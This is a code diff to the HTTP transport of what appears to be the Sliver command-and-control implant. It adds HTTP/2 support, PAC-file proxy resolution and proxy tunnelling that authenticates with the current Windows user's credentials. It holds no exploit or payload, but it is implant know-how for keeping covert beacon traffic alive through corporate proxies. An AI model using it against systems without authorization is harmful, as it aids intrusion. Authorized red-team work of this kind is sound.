@@ -34,6 +34,11 @@ import (
 	"github.com/bishopfox/sliver/implant/sliver/proxy"
 )
 
+const (
+	// Keep HTTP/2 connections around between polls so requests share one connection
+	http2IdleConnTimeout = 90 * time.Second
+)
+
 // GoHTTPDriver - Pure Go HTTP driver
 func GoHTTPDriver(origin string, secure bool, opts *HTTPOptions) (HTTPDriver, error) {
 	var transport *http.Transport
@@ -61,19 +66,44 @@ func GoHTTPDriver(origin string, secure bool, opts *HTTPOptions) (HTTPDriver, er
 			TLSHandshakeTimeout: opts.TlsTimeout,
 			TLSClientConfig:     tlsConfig,
 		}
+		if opts.HTTP2 {
+			// Falls back to HTTP/1.1 if the server doesn't negotiate h2
+			transport.ForceAttemptHTTP2 = true
+			transport.IdleConnTimeout = http2IdleConnTimeout
+		}
 	}
 	client := &http.Client{
 		Jar:       cookieJar(),
 		Timeout:   opts.NetTimeout,
 		Transport: transport,
 	}
-	parseProxyConfig(origin, transport, opts.ProxyConfig)
+	var proxyURL *url.URL
+	if opts.ProxyPAC != "" {
+		proxyURL = pacProxyURL(origin, opts.ProxyPAC)
+	} else {
+		proxyURL = parseProxyConfig(origin, opts.ProxyConfig)
+	}
+	if proxyURL != nil {
+		if opts.ProxyUsername != "" {
+			proxyURL.User = url.UserPassword(opts.ProxyUsername, opts.ProxyPassword)
+		}
+		if secure && proxyURL.User == nil && currentUserProxyAuth && !opts.DisableProxyAuth {
+			// {{if .Config.Debug}}
+			log.Printf("Tunneling through proxy with current user auth")
+			// {{end}}
+			dialer := &net.Dialer{Timeout: opts.NetTimeout}
+			transport.DialContext = proxyAuthDialer(proxyURL, dialer.DialContext, sspiProxyAuthenticator)
+		} else {
+			transport.Proxy = http.ProxyURL(proxyURL)
+		}
+	}
 	return client, nil
 }
 
-func parseProxyConfig(origin string, transport *http.Transport, proxyConfig string) {
+// parseProxyConfig - Get the proxy to use for the origin, if any
+func parseProxyConfig(origin string, proxyConfig string) *url.URL {
 	switch proxyConfig {
-	case "never":
+	case "never", "direct":
 		break
 	case "":
 		fallthrough
@@ -90,7 +120,7 @@ func parseProxyConfig(origin string, transport *http.Transport, proxyConfig stri
 			// {{if .Config.Debug}}
 			log.Printf("Proxy URL = '%s'\n", proxyURL)
 			// {{end}}
-			transport.Proxy = http.ProxyURL(proxyURL)
+			return proxyURL
 		}
 	default:
 		// {{if .Config.Debug}}
@@ -106,8 +136,28 @@ func parseProxyConfig(origin string, transport *http.Transport, proxyConfig stri
 		// {{if .Config.Debug}}
 		log.Printf("Proxy URL = '%s'\n", proxyURL)
 		// {{end}}
-		transport.Proxy = http.ProxyURL(proxyURL)
+		return proxyURL
+	}
+	return nil
+}
+
+// pacProxyURL - Get the proxy to use for the origin from a pac file, if any
+func pacProxyURL(origin string, pacURL string) *url.URL {
+	p := proxy.PACProxy(pacURL, origin)
+	if p == nil {
+		// {{if .Config.Debug}}
+		log.Printf("No proxy from pac file %s", pacURL)
+		// {{end}}
+		return nil
+	}
+	proxyURL := p.URL()
+	if proxyURL.Scheme == "" {
+		proxyURL.Scheme = "https"
 	}
+	// {{if .Config.Debug}}
+	log.Printf("Proxy URL (pac) = '%s'\n", proxyURL)
+	// {{end}}
+	return proxyURL
 }
 
 // Jar - CookieJar implementation that ignores domains/origins